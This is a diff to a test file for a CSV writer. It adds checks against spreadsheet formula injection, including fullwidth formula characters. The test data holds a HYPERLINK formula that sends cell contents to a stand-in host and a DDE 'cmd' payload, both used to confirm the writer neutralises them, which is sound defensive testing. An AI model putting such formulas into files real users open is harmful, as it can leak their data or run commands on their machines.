@@ -53,11 +53,21 @@ test('a broken line is named, and the next ones are read', () => {
 })
 
 describe('a spreadsheet', () => {
-  test.each(['=1+1', '+55 11', '-5', '@ana', '\tx', "'=1", '-'])('takes %j for a text', (cell) => {
+  test.each(['=1+1', '+55 11', '-5', '@ana', '＝1', '\tx', "'=1", '-'])('takes %j for a text', (cell) => {
     const written = writeCsv([[cell, 'x']])
     expect(written.replace(/^"/, '')).toMatch(/^'/)
     expect(cellsOf(written)).toEqual([[cell, 'x']])
   })
+
+  test.each(['Oi;=HYPERLINK("http://a.example/"&A1);', "Oi\n=cmd|'/c calc'!A0;fim", 'Oi;"=1', 'a\t@b'])(
+    'finds no formula in %j, wherever it splits',
+    (cell) => {
+      const written = writeCsv([['x', cell]])
+      for (const part of written.split(/[,;\t\r\n]/))
+        expect(part.replace(/^"+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
+      expect(cellsOf(written)).toEqual([['x', cell]])
+    },
+  )
 
   test('an apostrophe that protects nothing stays', () => {
     expect(cellsOf("'a,it's,'")).toEqual([["'a", "it's", "'"]])
@@ -66,7 +76,7 @@ describe('a spreadsheet', () => {
 
 const cell = fc.oneof(
   fc.string({
-    unit: fc.constantFrom('a', 'é', '"', ',', ';', '\t', '\r', '\n', "'", '=', '-', '@', '+', ' '),
+    unit: fc.constantFrom('a', 'é', '"', ',', ';', '\t', '\r', '\n', "'", '=', '-', '@', '＋', ' '),
   }),
   fc.string({ unit: 'grapheme' }),
 )
@@ -74,7 +84,11 @@ const cell = fc.oneof(
 test('what is written is read the same', () => {
   fc.assert(
     fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 })), (rows) => {
-      expect(cellsOf(writeCsv(rows))).toEqual(rows)
+      const written = writeCsv(rows)
+      expect(cellsOf(written)).toEqual(rows)
+      // However a program splits it, none of its cells is a formula.
+      for (const part of written.split(/[,;\t\r\n]/))
+        expect(part.replace(/^"+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
     }),
   )
 })
